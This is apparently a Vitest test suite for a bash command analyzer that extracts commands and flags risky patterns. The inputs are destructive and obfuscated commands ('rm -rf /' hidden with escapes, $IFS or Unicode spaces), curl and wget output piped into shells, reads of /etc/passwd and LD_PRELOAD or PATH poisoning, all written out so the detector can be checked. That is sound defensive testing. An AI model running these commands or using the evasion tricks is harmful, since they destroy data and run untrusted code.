import { beforeAll, describe, expect, it } from "vitest";
import { analyzeShell, wordExpandsTilde } from "./analyze.js";
import { isShellParserLoaded, loadShellParser } from "./parser.js";
import type { ExtractedCommand, ShellAnalysis } from "./types.js";

beforeAll(async () => {
  await loadShellParser();
});

function effective(script: string): string[][] {
  return analyzeShell(script).commands.map((c) => c.effective);
}

function codes(analysis: ShellAnalysis): string[] {
  return analysis.findings.map((f) => f.code);
}

function only(script: string): ExtractedCommand {
  const { commands } = analyzeShell(script);
  expect(commands).toHaveLength(1);
  return commands[0] as ExtractedCommand;
}

describe("loadShellParser", () => {
  it("loads once and shares the promise between concurrent callers", async () => {
    const a = loadShellParser();
    const b = loadShellParser();
    expect(a).toBe(b);
    await a;
    expect(isShellParserLoaded()).toBe(true);
  });
});

describe("analyzeShell: extraction", () => {
  it("extracts every command of a list and a pipeline", () => {
    expect(effective("a && b || c; d | e |& f & g")).toEqual([
      ["a"],
      ["b"],
      ["c"],
      ["d"],
      ["e"],
      ["f"],
      ["g"],
    ]);
  });

  it("extracts commands inside $(…), backticks and process substitution", () => {
    expect(effective("echo $(id) `whoami` <(ls) >(wc -l)")).toEqual([
      ["echo", "$(id)", "`whoami`", "<(ls)", ">(wc -l)"],
      ["id"],
      ["whoami"],
      ["ls"],
      ["wc", "-l"],
    ]);
  });

  it("extracts commands inside double-quoted substitutions", () => {
    expect(effective('echo "x $(rm -rf /) y"')).toEqual([
      ["echo", '"x $(rm -rf /) y"'],
      ["rm", "-rf", "/"],
    ]);
  });

  it("extracts commands from subshells, groups, loops, conditionals and case arms", () => {
    const script =
      "(a; b); { c; }; for i in $(d); do e; done; while f; do g; done; until h; do i; done; " +
      "if j; then k; elif l; then m; else n; fi; case $x in y) o;; *) p;; esac; select s in t; do u; done";
    expect(effective(script).map((c) => c[0])).toEqual([
      "a",
      "b",
      "c",
      "d",
      "e",
      "f",
      "g",
      "h",
      "i",
      "j",
      "k",
      "l",
      "m",
      "n",
      "o",
      "p",
      "u",
    ]);
  });

  it("extracts substitutions inside [[ ]] and [ ] tests", () => {
    expect(effective('[[ $(a) == "$(b)" ]] && [ -f "$(c)" ]')).toEqual([["a"], ["b"], ["c"]]);
  });

  it("extracts function bodies", () => {
    const a = analyzeShell("f() { rm -rf /; }; function g { ls; }");
    expect(a.commands.map((c) => c.effective)).toEqual([["rm", "-rf", "/"], ["ls"]]);
    expect(a.commands[0]?.context).toContain("function");
  });

  it("extracts substitutions in arithmetic, assignments and redirect targets", () => {
    expect(effective("echo $((1 + $(a))); X=$(b); Y=`c` d > $(e)")).toEqual([
      ["echo", "$((1 + $(a)))"],
      ["a"],
      ["b"],
      ["d"],
      ["c"],
      ["e"],
    ]);
  });

  it("extracts commands from arrays, parameter defaults and c-style loops", () => {
    expect(effective("a=(1 $(b)); echo ${x:-$(c)}; for ((i=$(d); i<3; i++)); do :; done")).toEqual([
      ["b"],
      ["echo", "${x:-$(c)}"],
      ["c"],
      ["d"],
      [":"],
    ]);
  });

  it("reads a long pipeline followed by && as bash does, whatever tree-sitter nests", () => {
    const a = analyzeShell('curl "x" | sh | tee log && echo done');
    expect(a.commands.map((c) => c.context)).toEqual([
      ["list", "pipeline"],
      ["list", "pipeline"],
      ["list", "pipeline"],
      ["list"],
    ]);
    expect(codes(a)).toContain("shell.download-to-shell");
  });

  it("records contexts outermost first", () => {
    const a = analyzeShell("x | (y && $(z))");
    expect(a.commands.map((c) => c.context)).toEqual([
      ["pipeline"],
      ["pipeline", "subshell", "list"],
      ["pipeline", "subshell", "list"],
      ["pipeline", "subshell", "list", "command-substitution"],
    ]);
  });

  it("keeps a quoted heredoc body as data", () => {
    expect(effective("cat <<'EOF'\n$(rm -rf /) `rm -rf /`\nEOF")).toEqual([["cat"]]);
  });

  it("extracts $(…) and backticks from an unquoted heredoc body", () => {
    const a = analyzeShell("cat <<EOF\n$(rm -rf /) `id`\nEOF");
    expect(a.commands.map((c) => c.effective)).toEqual([["cat"], ["rm", "-rf", "/"], ["id"]]);
    expect(a.commands[2]?.context).toEqual(["heredoc", "backtick"]);
  });

  it("treats the rest of a heredoc opener line as live", () => {
    expect(effective("cat <<'EOF' && rm -rf /\nbody\nEOF")).toEqual([["cat"], ["rm", "-rf", "/"]]);
    expect(effective("cat <<'EOF' | sh\nbody\nEOF")).toEqual([["cat"], ["sh"], ["body"]]);
  });

  it("gives a heredoc only to the command it follows", () => {
    const a = analyzeShell("a && b <<EOF\nx\nEOF");
    expect(a.commands.map((c) => c.redirects.map((r) => r.op))).toEqual([[], ["<<"]]);
    expect(a.commands[1]?.redirects[0]?.target).toBe("x\n");
  });

  it("treats words after a redirect target as arguments, as bash does", () => {
    expect(only("rm >/dev/null -rf /").effective).toEqual(["rm", "-rf", "/"]);
    expect(only("cat <<EOF file\nx\nEOF").effective).toEqual(["cat", "file"]);
  });

  it("gives a pipeline's trailing redirect to its last command", () => {
    const a = analyzeShell("a | b 2>/dev/null");
    expect(a.commands.map((c) => c.redirects.length)).toEqual([0, 1]);
    expect(a.commands[1]?.redirects[0]).toMatchObject({ op: ">", fd: 2, target: "/dev/null" });
  });

  it("gives a function definition's redirect to the commands of its body", () => {
    const a = analyzeShell("f() { echo x; } > ~/.bashrc; f");
    expect(a.commands[0]?.redirects.map((r) => r.target)).toEqual(["~/.bashrc"]);
  });

  it("extracts a redirect-only line as a command with no words", () => {
    const c = only("> /dev/sda");
    expect(c.argv).toEqual([]);
    expect(c.effective).toEqual([]);
    expect(c.redirects).toMatchObject([{ op: ">", target: "/dev/sda" }]);
  });

  it("gives a loop's redirect to every command inside", () => {
    const a = analyzeShell('while read l; do rm "$l"; done < list.txt');
    expect(a.commands.map((c) => c.redirects.map((r) => r.target))).toEqual([["list.txt"], ["list.txt"]]);
  });

  it("records redirects with their descriptor and dynamic targets as null", () => {
    const c = only('cmd <<< "$x" 2>>err.log >$OUT &>/dev/null 3<&0');
    expect(c.redirects.map((r) => [r.op, r.fd, r.target])).toEqual([
      ["<<<", undefined, null],
      [">>", 2, "err.log"],
      [">", undefined, null],
      ["&>", undefined, "/dev/null"],
      ["<&", 3, "0"],
    ]);
  });

  it("records leading assignments and keeps dynamic values as null", () => {
    const c = analyzeShell('A=1 B=$(x) C="q r" cmd').commands[0] as ExtractedCommand;
    expect(c.assignments).toEqual([
      { name: "A", value: "1", exported: true },
      { name: "B", value: null, exported: true },
      { name: "C", value: "q r", exported: true },
    ]);
  });

  it("records standalone assignments on the analysis", () => {
    const a = analyzeShell("X=1; Y=2 Z=$(q)");
    expect(a.assignments).toEqual([
      { name: "X", value: "1", exported: false },
      { name: "Y", value: "2", exported: false },
      { name: "Z", value: null, exported: false },
    ]);
    expect(a.commands.map((c) => c.effective)).toEqual([["q"]]);
  });

  it("extracts declaration commands with their assignments", () => {
    const a = analyzeShell("export A=1 B; local c=$(d)");
    expect(a.commands.map((c) => c.argv)).toEqual([["export", "A=1", "B"], ["local", "c=$(d)"], ["d"]]);
    expect(a.commands[0]?.assignments).toEqual([{ name: "A", value: "1", exported: true }]);
  });

  it("ignores comments", () => {
    expect(effective("ls # $(rm -rf /)")).toEqual([["ls"]]);
  });
});

describe("analyzeShell: quote removal", () => {
  it.each([
    ['r"m" -rf /', "rm"],
    ["\\rm -rf /", "rm"],
    ["$'\\x72m' -rf /", "rm"],
    ["$'\\162m' -rf /", "rm"],
    ["$'\\u0072m' -rf /", "rm"],
    ["'r''m' -rf /", "rm"],
    ["\"r\"'m' -rf /", "rm"],
    ['$"rm" -rf /', "rm"],
    ["r\\\nm -rf /", "rm"],
  ])("reads %j as the program %j", (script, program) => {
    const c = only(script);
    expect(c.argv[0]).toBe(program);
    expect(c.staticProgram).toBe(true);
    expect(c.dynamic).toEqual([]);
  });

  it("joins concatenated option pieces", () => {
    expect(only("rm -r\"f\" '/'").argv).toEqual(["rm", "-rf", "/"]);
    expect(only("find . -de\\lete").argv).toEqual(["find", ".", "-delete"]);
  });

  it("decodes double-quote escapes only where bash does", () => {
    expect(only('echo "a\\"b\\$c\\\\d\\x"').argv).toEqual(["echo", 'a"b$c\\d\\x']);
  });

  it("keeps NBSP inside one word and flags it", () => {
    const a = analyzeShell("rm\u00a0-rf /");
    expect(a.commands[0]?.argv).toEqual(["rm\u00a0-rf", "/"]);
    expect(codes(a)).toContain("shell.unicode-space");
  });

  it("reads a carriage return as part of a word, as bash does, and flags it", () => {
    const a = analyzeShell("echo ok\rrm -rf /");
    expect(a.commands.map((c) => c.argv)).toEqual([["echo", "ok\rrm", "-rf", "/"]]);
    expect(codes(a)).toContain("shell.carriage-return");
  });
});

describe("analyzeShell: dynamic words", () => {
  it("marks expansions, substitutions, globs and brace expansion dynamic and keeps their text", () => {
    const c = analyzeShell('cmd $x ${y} "$z" $(a) `b` *.c f? [ab] {a,b} {1..3} plain "q*" ~/x')
      .commands[0] as ExtractedCommand;
    expect(c.dynamic).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    expect(c.argv.slice(1, 4)).toEqual(["$x", "${y}", '"$z"']);
  });

  it("keeps ~ words literal, marks them as tilde words, not dynamic", () => {
    const c = only("rm -rf ~ ~/x '~/y'");
    expect(c.argv).toEqual(["rm", "-rf", "~", "~/x", "~/y"]);
    expect(c.dynamic).toEqual([]);
    expect([2, 3, 4].map((k) => wordExpandsTilde(c, k, "argv"))).toEqual([true, true, false]);
    const s = only("sudo rm ~");
    expect(wordExpandsTilde(s, 1)).toBe(true);
  });

  it("flags a dynamic command word", () => {
    for (const script of ["$cmd -rf /", "$(echo rm) -rf /", '"${x}" a', "`echo rm` x"]) {
      const a = analyzeShell(script);
      expect(a.commands[0]?.staticProgram, script).toBe(false);
      expect(codes(a), script).toContain("shell.dynamic-command");
    }
  });

  it("flags brace expansion in command position", () => {
    const a = analyzeShell("x; {rm,-rf,/}");
    expect(codes(a)).toContain("shell.brace-expansion-command");
    expect(a.incomplete).toBe(true);
    const b = analyzeShell("a{b,c} d");
    expect(codes(b)).toContain("shell.brace-expansion-command");
    expect(b.commands[0]?.staticProgram).toBe(false);
  });

  it("flags $IFS tricks", () => {
    expect(codes(analyzeShell("rm${IFS}-rf${IFS}/"))).toContain("shell.ifs");
    expect(codes(analyzeShell("cat$IFS/etc/passwd"))).toContain("shell.ifs");
  });

  it("flags ${x@P} prompt expansion", () => {
    expect(codes(analyzeShell("echo ${x@P}"))).toContain("shell.prompt-expansion");
  });
});

describe("analyzeShell: shell payloads", () => {
  it.each([
    ["bash -c 'rm -rf /'"],
    ["sh -c 'rm -rf /'"],
    ["/bin/sh -c 'rm -rf /'"],
    ["zsh -lc 'rm -rf /'"],
    ["dash -xc 'rm -rf /'"],
    ["ksh -e -c 'rm -rf /'"],
    ["bash -o pipefail -c 'rm -rf /'"],
    ["bash --norc -c 'rm -rf /' name arg"],
  ])("parses the payload of %s", (script) => {
    const a = analyzeShell(script);
    const inner = a.commands[1] as ExtractedCommand;
    expect(inner.effective).toEqual(["rm", "-rf", "/"]);
    expect(inner.context).toEqual(["shell-c"]);
  });

  it("parses nested payloads", () => {
    expect(effective(`bash -c "sh -c 'rm -rf /'"`).at(-1)).toEqual(["rm", "-rf", "/"]);
  });

  it("flags a dynamic payload", () => {
    expect(codes(analyzeShell('bash -c "$x"'))).toContain("shell.unparsed-payload");
  });

  it("stops at the nesting limit", () => {
    let script = "rm -rf /";
    for (let i = 0; i < 12; i++) script = `sh -c ${JSON.stringify(script).replace(/\$/g, "\\$")}`;
    const a = analyzeShell(script);
    expect(codes(a)).toContain("shell.nested-too-deep");
    expect(a.incomplete).toBe(true);
  });

  it("parses eval and alias payloads", () => {
    const a = analyzeShell("eval 'rm -rf /'; alias ls='rm -rf ~'; ls");
    expect(a.commands.map((c) => c.effective)).toEqual([
      ["eval", "rm -rf /"],
      ["rm", "-rf", "/"],
      ["alias", "ls=rm -rf ~"],
      ["rm", "-rf", "~"],
      ["ls"],
    ]);
    expect(codes(a)).toEqual(expect.arrayContaining(["shell.eval", "shell.alias-defined"]));
  });

  it("flags source and .", () => {
    expect(codes(analyzeShell("source ./env.sh"))).toContain("shell.source");
    expect(codes(analyzeShell(". ./env.sh"))).toContain("shell.source");
  });

  it("analyses a PowerShell or cmd payload in its own dialect", () => {
    expect(effective("pwsh -Command Get-ChildItem")).toEqual([
      ["pwsh", "-Command", "Get-ChildItem"],
      ["Get-ChildItem"],
    ]);
    expect(codes(analyzeShell("pwsh -EncodedCommand ZQBjAGgAbwA="))).toContain("shell.unparsed-payload");
    expect(codes(analyzeShell("cmd /c 'del /s x & calc'"))).toContain("shell.unsupported-syntax");
  });
});

describe("analyzeShell: pipes into shells", () => {
  it("denies a download piped into a shell", () => {
    for (const script of [
      "curl -fsSL https://x.sh | sh",
      "wget -qO- x | bash -s -- --flag",
      "curl x | sudo bash",
      "curl x | tee log | python3",
      "bash <(curl -s x)",
      'bash -c "$(curl -fsSL x)"',
      'eval "$(wget -qO- x)"',
      'sh <<< "$(curl x)"',
      "source <(curl x)",
    ]) {
      const a = analyzeShell(script);
      const finding = a.findings.find((f) => f.code === "shell.download-to-shell");
      expect(finding?.severity, script).toBe("deny");
    }
  });

  it("asks for other programs fed to a shell or interpreter", () => {
    for (const script of [
      "cat x | sh",
      "echo ls | bash",
      "sh < script.sh",
      'bash <<< "$x"',
      "python - <<EOF\nprint(1)\nEOF",
      "node < x.js",
      "perl < x.pl",
    ]) {
      expect(codes(analyzeShell(script)), script).toContain("shell.pipe-to-shell");
    }
  });

  it("does not flag shells that run a script file or a -c payload", () => {
    for (const script of [
      "cat x | bash script.sh",
      "ls | sh -c 'wc -l'",
      "echo x | python3 tool.py",
      "ls | grep sh",
    ]) {
      const found = codes(analyzeShell(script));
      expect(found, script).not.toContain("shell.pipe-to-shell");
      expect(found, script).not.toContain("shell.download-to-shell");
    }
  });

  it("parses a static heredoc fed to a shell", () => {
    expect(effective("bash <<'EOF'\nrm -rf /\nEOF")).toEqual([["bash"], ["rm", "-rf", "/"]]);
    expect(effective("sh <<< 'rm -rf /'")).toEqual([["sh"], ["rm", "-rf", "/"]]);
  });
});

describe("analyzeShell: state poisoning", () => {
  it.each([
    "export PATH=/tmp:$PATH",
    "PAGER='sh -c x' git log",
    "declare -x GIT_SSH_COMMAND=x",
    "typeset LD_PRELOAD=/tmp/x.so",
    "readonly BASH_ENV=/tmp/x",
    "local IFS=x",
    "env LD_PRELOAD=x ls",
    "sudo PYTHONPATH=/tmp python3 x.py",
    "npm_config_script_shell=/tmp/x npm test",
    "DYLD_INSERT_LIBRARIES=x ls",
    "GIT_CONFIG_COUNT=1 git status",
  ])("flags %s", (script) => {
    expect(codes(analyzeShell(script))).toContain("shell.env-poison");
  });

  it("does not flag harmless variables", () => {
    expect(codes(analyzeShell("FOO=1 make; export CI=true"))).not.toContain("shell.env-poison");
  });

  it.each([
    ": ${CDPATH:=..}; cd .config",
    "echo ${PATH=/tmp}",
    ": ${LD_PRELOAD:=x.so}",
    "for PATH in /tmp; do ls; done",
    "for GIT_DIR in x; do git status; done",
    "select PATH in /tmp; do ls; done",
  ])("flags %s, which assigns without an assignment word", (script) => {
    expect(codes(analyzeShell(script))).toContain("shell.env-poison");
  });

  it("does not flag expansions and loops over harmless variables", () => {
    expect(
      codes(analyzeShell(': ${x:=1}; echo "${y:-2}"; for f in *.ts; do wc -l "$f"; done')),
    ).not.toContain("shell.env-poison");
  });

  it.each([
    "path=(/tmp $path); ls",
    "path+=(/tmp); ls",
    "cdpath=(..); cd .config",
    "fpath=(.); autoload f",
    "typeset cdpath=..",
    ": ${cdpath:=..}",
    "for path in /tmp; do ls; done",
    "NULLCMD=x",
  ])("flags %s under zsh, which ties the array to the variable", (script) => {
    expect(codes(analyzeShell(script, "bash", "zsh"))).toContain("shell.env-poison");
  });

  it("keeps path an ordinary variable outside zsh", () => {
    expect(codes(analyzeShell("path=src/x; cat $path"))).not.toContain("shell.env-poison");
  });

  it("flags a function that shadows a command it is called as", () => {
    const a = analyzeShell("ls() { rm -rf /; }; ls");
    expect(codes(a)).toContain("shell.function-shadow");
    expect(a.commands.map((c) => c.effective)).toEqual([["rm", "-rf", "/"], ["ls"]]);
    expect(a.commands[1]?.callsFunction).toBe(true);
  });
});

describe("analyzeShell: incomplete analysis", () => {
  it.each(['echo "unterminated', "if then fi", "ls | | wc", "echo $(", "cat <<'EOF'; $(touch x)\nb"])(
    "flags a parse error in %j",
    (script) => {
      const a = analyzeShell(script);
      expect(a.incomplete).toBe(true);
      expect(codes(a)).toContain("shell.parse-error");
    },
  );

  it("still extracts what it can from a broken script", () => {
    const a = analyzeShell("cat <<'EOF'; $(touch x)\nb");
    expect(a.commands.map((c) => c.effective)).toContainEqual(["touch", "x"]);
  });

  it("analyses an empty script as no commands", () => {
    expect(analyzeShell("")).toEqual({ language: "bash", commands: [], findings: [], incomplete: false });
  });

  it("fails closed on a dialect it does not know", () => {
    const a = analyzeShell("ls", "zsh" as never);
    expect(a.incomplete).toBe(true);
    expect(codes(a)).toEqual(["shell.unsupported-syntax"]);
  });
});
